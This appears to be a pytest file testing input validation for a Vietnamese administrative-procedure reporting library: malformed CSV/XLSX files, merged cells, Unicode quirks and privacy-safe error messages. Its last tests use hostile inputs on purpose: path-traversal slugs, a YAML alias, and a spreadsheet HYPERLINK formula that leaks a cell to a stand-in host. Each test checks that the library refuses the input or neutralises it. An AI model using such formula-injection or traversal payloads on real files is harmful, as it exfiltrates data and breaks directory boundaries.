"""The bad-input catalogue: each case gets one clear message (file, row, column, what was
expected and found) or is handled by a documented policy — never a traceback."""

import io
import subprocess
import sys
import unicodedata
import zipfile
from datetime import date, datetime

import pandas as pd
import pytest
from openpyxl import Workbook

from tthc_lib.core.periods import parse_period
from tthc_lib.core.schema import C
from tthc_lib.engine.frame import classify
from tthc_lib.engine.load import InputError, load

from .conftest import CANONICAL, dossier, write_csv

Q3 = parse_period("2023-Q3")
HEAD_VI = ["Mã hồ sơ", "Lĩnh vực", "Cơ quan giải quyết", "Cấp thực hiện", "Hình thức nộp",
           "Ngày tiếp nhận", "Ngày hẹn trả", "Ngày có kết quả"]


def test_two_headers_meaning_the_same_column_must_agree_row_by_row(tmp_path):
    path = tmp_path / "x.csv"
    head = ",".join(CANONICAL) + ",Cấp\n"
    path.write_text(head + "A,,,Hộ tịch,UBND,xa,truc_tuyen,2023-07-01,2023-07-02,,Cấp xã\n"
                    "B,,,Hộ tịch,UBND,tinh,truc_tuyen,2023-07-01,2023-07-02,,\n",
                    encoding="utf-8")
    tb = load(path)  # the higher-priority header is read, the other agrees
    assert list(tb.df[C.cap]) == ["xa", "tinh"] and tb.dataset.also == {"cap": ["Cấp"]}
    path.write_text(head + "A,,,Hộ tịch,UBND,xa,truc_tuyen,2023-07-01,2023-07-02,,tinh\n",
                    encoding="utf-8")
    with pytest.raises(InputError, match=r"dòng 2, cột 'Cấp thực hiện' \(cap\): hai cột cùng "
                       r"nghĩa phải giống nhau; cột thứ 6 và cột thứ 11 \('Cấp'\) ghi khác, "
                       r"gặp 'tinh'"):
        load(path)


def test_unknown_extra_columns_are_ignored(make_table):
    row = dossier("A", "2023-07-01", "2023-07-02") | {"Ghi chú": "gấp", "Mã bưu gửi": "EMS1"}
    tb = make_table([row])
    assert tb.extra_columns == ["Ghi chú", "Mã bưu gửi"] and "Ghi chú" not in tb.df


def test_zip_and_fake_xlsx_are_refused(tmp_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.txt", "x")
    (tmp_path / "a.csv").write_bytes(buf.getvalue())
    with pytest.raises(InputError, match="không phải tệp CSV"):
        load(tmp_path / "a.csv")
    (tmp_path / "b.xlsx").write_text("Mã hồ sơ,Lĩnh vực\n", encoding="utf-8")
    with pytest.raises(InputError, match="không phải tệp XLSX hợp lệ"):
        load(tmp_path / "b.xlsx")
    (tmp_path / "c.pdf").write_bytes(b"%PDF-1.4")
    with pytest.raises(InputError, match="chỉ nhận CSV, XLSX hoặc Parquet"):
        load(tmp_path / "c.pdf")


def _export_xlsx(path, merged=True, extra_sheet=True):
    wb = Workbook()
    if extra_sheet:
        notes = wb.active
        notes.title = "Ghi chú"
        notes.append(["Tệp xuất từ Hệ thống thông tin giải quyết TTHC"])
        ws = wb.create_sheet("Danh sách hồ sơ")
    else:
        ws = wb.active
    ws.append(["UBND TỈNH BẮC GIANG"])
    ws.append(["BÁO CÁO DANH SÁCH HỒ SƠ TỪ 15/06/2023 ĐẾN 14/09/2023"])
    ws.append([])
    ws.append(HEAD_VI + ["Họ và tên"])
    ws.append(["A1", "Hộ tịch", "UBND xã Đồng Kỳ", "Cấp xã", "Trực tuyến",
               datetime(2023, 7, 3, 8), datetime(2023, 7, 5), datetime(2023, 7, 4),
               "Lê Thị Thu"])
    ws.append(["A2", None, None, None, "Trực tiếp", "04/07/2023", "06/07/2023", None,
               "Ngô Văn Hùng"])
    ws.append(["A3", "Đất đai", "UBND huyện Yên Thế", "Cấp huyện", "Trực tuyến", 45112,
               45120, None, "Phạm Văn Quân"])
    if merged:
        for col in "BCD":
            ws.merge_cells(f"{col}5:{col}6")
    wb.save(path)
    return path


def test_xlsx_banner_rows_merged_cells_and_sheet_chosen_by_header(tmp_path):
    tb = load(_export_xlsx(tmp_path / "export.xlsx"))
    df = tb.df
    assert list(df[C.linh_vuc]) == ["Hộ tịch", "Hộ tịch", "Đất đai"]  # merged B5:B6 filled
    assert list(df[C.cap]) == ["xa", "xa", "huyen"]
    assert df[C.ngay_tiep_nhan].tolist() == [pd.Timestamp("2023-07-03 08:00"),
                                             pd.Timestamp("2023-07-04"),
                                             pd.Timestamp("2023-07-05")]  # serial 45112
    assert list(df["_row"]) == [5, 6, 7] and tb.personal_dropped == ["Họ và tên"]
    assert load(tmp_path / "export.xlsx", sheet="Danh sách hồ sơ").rows_read == 3
    with pytest.raises(InputError, match="không đọc được trang tính"):
        load(tmp_path / "export.xlsx", sheet="Không có")


def test_unmerged_empty_cells_are_errors_with_row_numbers(tmp_path):
    with pytest.raises(InputError, match=r"dòng 6, cột 'Cơ quan giải quyết'"):
        load(_export_xlsx(tmp_path / "e.xlsx", merged=False, extra_sheet=False))


def test_dates_after_today_are_data_errors(make_table):
    rows = [dossier("A", "2023-07-01", "2023-07-05", "2023-07-04"),
            dossier("B", "2023-07-01", "2023-07-05", "2031-07-04")]
    ct = classify(make_table(rows), Q3, today=date(2026, 11, 25))
    assert ct.excluded == {"date_in_future": 1} and ct.excluded_rows["date_in_future"] == [3]
    assert len(ct.df) == 1


def test_categories_with_nbsp_nfd_and_mixed_case(make_table):
    rows = [dossier("A", "2023-07-01", "2023-07-05", cap="\u00a0CẤP  TỈNH ",
                    kenh=unicodedata.normalize("NFD", "trực TUYẾN"),
                    field=unicodedata.normalize("NFD", " Hộ tịch\u00a0")),
            dossier("B", "2023-07-01", "2023-07-05", cap="cấp tỉnh", kenh="Trực tuyến",
                    field="Hộ tịch")]
    df = make_table(rows).df
    assert set(df[C.cap]) == {"tinh"} and set(df[C.kenh_nop]) == {"truc_tuyen"}
    assert set(df[C.linh_vuc]) == {"Hộ tịch"}  # one field, not two spellings


def test_unknown_channel_names_value_and_accepted_ones(make_table):
    with pytest.raises(InputError) as err:
        make_table([dossier("A", "2023-07-01", "2023-07-05", kenh="Fax")])
    assert "truc_tuyen, truc_tiep, buu_chinh" in str(err.value) and "'Fax'" in str(err.value)


def test_personal_values_are_never_quoted_in_errors(tmp_path):
    row = dossier("A", "2023-07-01", "ngày mai") | {"Số điện thoại": "0987654321",
                                                   "Họ tên": "Đinh Thị Hoa"}
    with pytest.raises(InputError) as err:
        load(write_csv(tmp_path / "x.csv", [row]))
    assert "0987654321" not in str(err.value) and "Đinh Thị Hoa" not in str(err.value)


def test_compute_strict_turns_data_errors_into_exit_2(tmp_path):
    rows = [dossier("A", "2023-07-05", "2023-07-10", "2023-07-04"),
            dossier("B", "2023-07-05", "2023-07-10", "2023-07-06")]
    path = write_csv(tmp_path / "x.csv", rows)
    run = [sys.executable, "-m", "tthc_lib.cli", "compute", str(path), "--period", "2023-Q3"]
    ok = subprocess.run(run, capture_output=True, text=True)
    assert ok.returncode == 0 and "ngày có kết quả trước ngày tiếp nhận (các dòng 2)" in ok.stderr
    strict = subprocess.run(run + ["--strict"], capture_output=True, text=True)
    assert strict.returncode == 2 and "--strict" in strict.stderr


def test_report_strict_refuses_inconsistent_typed_figures(tmp_path):
    from tthc_lib.report.build import build_report

    write_csv(tmp_path / "hs.csv", [dossier("A", "2023-07-01", "2023-07-05", "2023-07-04")])
    p = tmp_path / "p.yaml"
    p.write_text("unit: {slug: d, name: UBND tỉnh D, short_name: tỉnh D}\nperiod: 2023-Q3\n"
                 "data: hs.csv\nfigures: {received_total: 2}\n", encoding="utf-8")
    rep = build_report(p)
    assert [f.check for f in rep.typed] == ["typed-vs-data:received_total"]
    with pytest.raises(InputError, match="số đã nhập/công bố là 2, số tính từ dữ liệu hồ sơ là 1"):
        build_report(p, strict=True)


def test_messy_sample_gives_a_report_whose_quality_part_tells_the_truth(tmp_path):
    from tthc_lib.report.build import build_report
    from tthc_lib.samples import generator as sample

    data = sample.write_messy(sample.MESSY, tmp_path / "messy.xlsx")
    p = tmp_path / "p.yaml"
    p.write_text("unit: {slug: m, name: UBND tỉnh M, short_name: tỉnh M}\nperiod: 2023-Q3\n"
                 f"data: {data}\n", encoding="utf-8")
    rep = build_report(p)
    assert rep.dataset.identical_duplicates == 2
    assert rep.run.excluded["result_before_receipt"] == 3
    assert rep.run.excluded["due_before_receipt"] == 2
    html = rep.quality_html()
    assert "Bỏ 2 dòng trùng lặp" in html and "lỗi dữ liệu" in html
    assert "Họ tên người nộp" in html  # the header is named, never a value
    assert all(f.ok for f in rep.identities)
    assert set(rep.results.by_level) == {"tinh", "huyen", "xa"}
    with pytest.raises(InputError, match="--strict"):
        build_report(p, strict=True)


@pytest.mark.parametrize("large", [False, True])
def test_a_ragged_csv_row_is_named_never_quoted(tmp_path, monkeypatch, large):
    import tthc_lib.io.read as read

    if large:
        monkeypatch.setattr(read, "STREAM_BYTES", 1)
    path = tmp_path / "x.csv"
    path.write_text("Mã hồ sơ,Cơ quan giải quyết,Ngày tiếp nhận,Ngày hẹn trả,Ngày có kết quả,"
                    "Địa chỉ\nA,Sở Tư pháp,01/07/2023,05/07/2023,,Thôn 1\n"
                    "B,Sở Tư pháp,01/07/2023,05/07/2023,,Số 5, ngõ 7, 0912345678\n",
                    encoding="utf-8")
    with pytest.raises(InputError) as err:
        load(path, cache=False)
    msg = str(err.value)
    assert "dòng 3: cần 6 ô, gặp 8 ô" in msg and "0912345678" not in msg and "ngõ" not in msg


def test_slug_that_leaves_the_outputs_folder_is_refused(tmp_path):
    from tthc_lib.core.paths import report_dir
    from tthc_lib.report.spec import load_spec

    write_csv(tmp_path / "hs.csv", [dossier("A", "2023-07-01", "2023-07-05")])
    for slug in ("../../escaped", "/tmp/abs", "Bắc Giang", "a" * 300, "x\x00y"):
        p = tmp_path / "p.yaml"
        p.write_text(f"unit: {{slug: {slug!r}, name: UBND tỉnh D, short_name: tỉnh D}}\n"
                     "period: 2023-Q3\ndata: hs.csv\n", encoding="utf-8")
        with pytest.raises(InputError, match="'unit.slug'"):
            load_spec(p)
    with pytest.raises(InputError, match="ngoài thư mục outputs"):
        report_dir(tmp_path / "out", "../x", "2023-Q3")


def test_yaml_aliases_are_refused_in_params(tmp_path):
    from tthc_lib.report.spec import load_spec

    p = tmp_path / "p.yaml"
    p.write_text("a: &x [1, 2]\nunit: {slug: d, name: *x, short_name: d}\n", encoding="utf-8")
    with pytest.raises(InputError, match="bí danh YAML"):
        load_spec(p)


def test_formula_like_names_are_text_in_the_forms(tmp_path):
    from openpyxl import load_workbook

    from tthc_lib.report.build import build_report

    evil = '=HYPERLINK("http://x.test/?leak="&A1,"Bấm")'
    write_csv(tmp_path / "hs.csv", [dossier("A", "2023-07-01", "2023-07-05", "2023-07-04",
                                            field=evil)])
    p = tmp_path / "p.yaml"
    p.write_text("unit: {slug: d, name: UBND tỉnh D, short_name: tỉnh D}\nperiod: 2023-Q3\n"
                 "data: hs.csv\n", encoding="utf-8")
    build_report(p).save(tmp_path)
    ws = load_workbook(tmp_path / "forms.xlsx")["II.06"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
